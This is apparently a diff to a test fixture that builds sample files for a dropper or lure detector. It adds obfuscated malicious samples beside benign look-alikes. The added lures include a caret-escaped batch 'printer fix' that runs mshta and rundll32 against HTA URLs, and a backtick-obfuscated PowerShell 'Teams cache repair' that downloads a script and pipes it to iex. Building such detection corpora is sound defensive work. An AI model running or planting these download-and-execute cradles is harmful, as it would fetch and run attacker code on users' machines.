@@ -116,6 +116,19 @@ var c = "{"mshta https://203.0.113.78/verify.hta"[::-1]}".split("").reverse().jo
 function go() {{ navigator.clipboard.writeText(c); }}
 </script></body></html>
 """,
+    # The shells' own escapes (DOSfuscation): carets and "" pairs inside words hide mshta/rundll32.
+    "lures/droppers/caret_printer_fix.bat": f"""@echo off
+rem Printer spooler repair. {MARK}
+m^s^h^t^a.exe ht^tps://203.0.113.62/fix/spooler.hta
+r"un"dl"l"32.exe url.dll,OpenURL http://203.0.113.62/fix/update.hta
+echo Printer fixed.
+""",
+    # Invoke-Obfuscation's ticks and format operator, the command called through a variable.
+    "lures/droppers/ticked_cradle.ps1": f"""# Teams cache repair. {MARK}
+S`top-Pro`cess -Name ms-teams -ErrorAction SilentlyContinue
+$c = ("{{1}}{{0}}" -f 'wr','i'); $x = ("{{1}}{{0}}" -f 'ex','i')
+& $c -Uri http://203.0.113.81/teams/fix.ps1 -UseBasicParsing | & $x
+""",
     # HTML smuggling of an installer from a bundle with an ordinary name.
     "lures/droppers/app.bundle.js": f"""/* {MARK} */
 (function () {{
@@ -130,6 +143,21 @@ function go() {{ navigator.clipboard.writeText(c); }}
 }})();
 """,
     # ---- clean look-alikes
+    # A batch file escaping what cmd would read as syntax, and quoting a path: no tool, no download.
+    "clean/droppers/echo_escapes.bat": f"""@echo off
+rem Build notes. {MARK}
+echo Tom ^& Jerry ^<team^> 100%%
+set "OUT=C:\\Build Output"
+if not exist "%OUT%" mkdir "%OUT%"
+echo Done.
+""",
+    # A report script: format operator on variables, tabs in strings, a tool called through a variable.
+    "clean/droppers/format_report.ps1": f"""# Repository report. {MARK}
+$tool = "git"
+$n = (& $tool ls-files | Measure-Object).Count
+Write-Host ("{{0}} files in {{1}}" -f $n, (Get-Location))
+Write-Host "name`tcount`n"
+""",
     # A help page: keyboard shortcuts written with character references, and a string reversed for a
     # palindrome demo; no command, no clipboard.
     "clean/droppers/shortcuts_help.html": f"""<!DOCTYPE html>
